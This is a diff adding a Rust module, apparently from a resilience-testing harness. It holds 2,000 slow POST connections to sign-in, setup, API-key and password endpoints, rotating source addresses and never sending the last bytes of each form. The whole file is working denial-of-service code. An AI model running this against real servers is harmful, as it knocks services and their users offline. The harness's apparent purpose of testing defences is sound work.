@@ -1,0 +1,56 @@
+//! Somebody without a session sends forms up to their last bytes and holds the connections, from many addresses.
+
+use std::io;
+use std::sync::Arc;
+
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::runtime::Handle;
+
+use super::RECONNECT;
+use crate::target::Target;
+use crate::wire::{another_address, connect};
+
+/// How many are held at once.
+const HELD: usize = 2_000;
+
+/// As long as a form may be; the last bytes never come.
+const ANNOUNCED: usize = 64 * 1024;
+const WITHHELD: usize = 64;
+
+pub(super) fn begin(runtime: &Handle, target: &Arc<Target>) {
+    let body: Arc<[u8]> = vec![b'x'; ANNOUNCED - WITHHELD].into();
+    for number in 0..HELD {
+        let (target, body) = (Arc::clone(target), Arc::clone(&body));
+        runtime.spawn(async move {
+            loop {
+                if let Err(error) = hold(&target, number, &body).await {
+                    target.tally.broke(error);
+                    tokio::time::sleep(RECONNECT).await;
+                }
+            }
+        });
+    }
+}
+
+/// Begins a form, and waits until the server has enough of it.
+async fn hold(target: &Target, number: usize, body: &[u8]) -> io::Result<()> {
+    let path = [
+        "/sign-in",
+        "/setup",
+        "/organizations/bridges/settings/api-keys/new",
+        "/account/password",
+    ][number % 4];
+    let mut stream = connect(target.server, another_address(), None).await?;
+    let head = format!(
+        "POST {path} HTTP/1.1\r\nHost: {}\r\nSec-Fetch-Site: same-origin\r\n\
+         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {ANNOUNCED}\r\n\r\n",
+        target.server
+    );
+    stream.write_all(head.as_bytes()).await?;
+    target.tally.held();
+    stream.write_all(b"username=").await?;
+    stream.write_all(&body[9..]).await?;
+    let mut answer = [0; 1024];
+    while stream.read(&mut answer).await? > 0 {}
+    Ok(())
+}
